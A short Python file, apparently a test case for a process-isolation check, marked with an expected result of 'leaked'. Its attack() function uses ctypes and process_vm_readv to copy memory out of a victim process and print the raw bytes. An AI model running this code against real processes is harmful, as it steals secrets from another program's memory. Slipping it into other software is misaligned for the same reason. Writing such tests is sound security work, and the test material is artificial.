# oracle: leaked
import ctypes

from host import ADDRESS, LENGTH, VICTIM

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    held = ctypes.create_string_buffer(LENGTH)
    class Span(ctypes.Structure):
        _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    ours, theirs = Span(ctypes.addressof(held), LENGTH), Span(ADDRESS, LENGTH)
    libc.process_vm_readv(VICTIM, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    print(held.raw)
